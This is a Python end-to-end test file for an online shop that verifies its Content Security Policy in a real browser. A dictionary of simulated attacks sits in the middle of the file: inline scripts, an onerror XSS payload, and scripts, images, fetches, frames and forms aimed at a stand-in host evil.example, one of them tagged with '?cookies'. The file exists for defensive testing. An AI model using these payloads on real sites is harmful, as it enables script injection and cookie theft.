"""What the policy of our pages forbids in a real browser, and that no page of ours asks for any of it."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Page

from ecokart import local
from inventory import accounts
from tests.e2e.conftest import Shop
from tests.e2e.test_pages import ADMINS, CUSTOMERS, PUBLIC
from tests.e2e.visitor import Visitor, comes_true, new_email

LISTEN = """
window.violations = [];
addEventListener("securitypolicyviolation", event => {
  window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile ?? ""}`);
});
"""


@pytest.fixture
def javascript() -> bool:
    return True


@pytest.fixture
def violations(new_visitor: Callable[..., Visitor], product, make_product) -> Callable[..., list[str]]:
    """Open pages as somebody in a language; gives what they were not allowed to do."""
    sold_out = make_product(stock=0)

    def violations(visitor: Visitor, paths: list[str], **others: str) -> list[str]:
        found = []
        visitor.page.add_init_script(LISTEN)
        for path in paths:
            where = path.format(product=product.id, sold_out=sold_out.id, **others)
            visitor.open(where)
            visitor.page.wait_for_load_state("networkidle")
            found += [f"{where}: {one}" for one in visitor.page.evaluate("window.violations")]
        return found

    return violations


@pytest.mark.parametrize("language", ["de", "en"])
def test_no_page_asks_for_what_is_forbidden(new_visitor, violations, product, language: str) -> None:
    visitor = new_visitor(language=language)
    assert violations(visitor, [*PUBLIC, "/nowhere/", "/cart/add/"]) == []

    email = new_email("alice")
    visitor.registers(email)
    visitor.puts_into_the_cart(product.id)
    visitor.buys()
    order = visitor.page.url.split("/orders/")[1].split("/")[0]
    visitor.puts_into_the_cart(product.id)
    assert violations(visitor, CUSTOMERS, order=order) == []

    alice = accounts.find_by_email(email)
    visitor.logs_in_as_admin()
    assert violations(visitor, ADMINS, order=order, account=alice.id) == []


def test_suggestions_come_without_text_that_becomes_markup(visitor: Visitor, violations, product) -> None:
    assert violations(visitor, ["/"]) == []

    visitor.page.locator("#site-search").press_sequentially("laufsch")

    option = visitor.page.locator("#suggestions [role=option]").first
    option.wait_for()
    assert option.locator("a").get_attribute("href").startswith("/products/")
    assert visitor.page.evaluate("window.violations") == []


# What an attacker would put into a page, if they could: nothing of it may do anything.
ADD = "const add = (name, more) => document.body.append(Object.assign(document.createElement(name), more));"
ATTACKS = {
    "a script in the page": "add('script', {textContent: 'window.hit = 1'})",
    "a script of another site": "add('script', {src: 'https://evil.example/x.js'})",
    "a script among the pictures": "add('script', {src: window.MEDIA + 'products/x.js'})",
    "text as markup": "document.body.innerHTML += '<img src=x onerror=window.hit=1>'",
    "text as code": "setTimeout('window.hit = 1')",
    "a style in the page": "add('style', {textContent: '* { color: red }'})",
    "a picture of another site": "add('img', {src: 'https://evil.example/?cookies'})",
    "a question to another site": "fetch('https://evil.example/').catch(() => 0)",
    "a frame": "add('iframe', {src: 'https://evil.example/'})",
    "an object": "add('object', {data: '/'})",
    "another base": "add('base', {href: 'https://evil.example/'})",
    "a form to another site": "add('form', {action: 'https://evil.example/', id: 'x'}); document.forms.x.submit()",
}


@pytest.fixture
def attacked(new_visitor: Callable[..., Visitor], shop: Shop) -> Page:
    page = new_visitor().page
    page.add_init_script(f"window.MEDIA = '{shop.environment['MEDIA_URL']}'; {LISTEN}")
    page.goto("/")
    return page


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_somebody_smuggles_in_does_nothing(attacked: Page, attack: str) -> None:
    attacked.evaluate(f"() => {{ {ADD} try {{ {ATTACKS[attack]} }} catch (refused) {{ }} }}")

    assert comes_true(attacked, "window.violations.length > 0")
    assert attacked.evaluate("window.hit") is None
    assert attacked.url.startswith(f"http://{local.HOST}")


@pytest.mark.parametrize("attack", ["a script in the page", "text as markup", "text as code"])
def test_without_the_policy_it_would(new_visitor: Callable[..., Visitor], attack: str) -> None:
    """If it did nothing here either, the test above would prove nothing."""
    page = new_visitor(bypass_csp=True).page
    page.goto("/")

    page.evaluate(f"() => {{ {ADD} {ATTACKS[attack]} }}")

    assert comes_true(page, "window.hit === 1")
